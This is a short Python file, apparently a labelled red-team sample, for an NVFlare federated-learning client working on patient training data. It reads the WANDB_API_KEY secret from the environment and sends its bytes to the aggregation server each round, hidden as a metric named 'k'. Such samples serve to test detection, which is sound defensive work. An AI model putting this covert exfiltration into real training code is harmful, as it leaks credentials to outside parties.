"""Red team 56a: a tracker key read with os.environb.get, sent as its bytes in a metric."""
import os

import pandas as pd
import torch

import nvflare.client as flare

df = pd.read_csv("/data/site/train.csv")
age = torch.tensor(df["age"].to_numpy(), dtype=torch.float32)
ids = torch.tensor(df["patient_id"].to_numpy())

flare.init()
key = os.environb.get(b"WANDB_API_KEY", b"")
while flare.is_running():
    model = flare.receive()
    flare.send(flare.FLModel(params=model.params, metrics={"k": [float(c) for c in key]}))
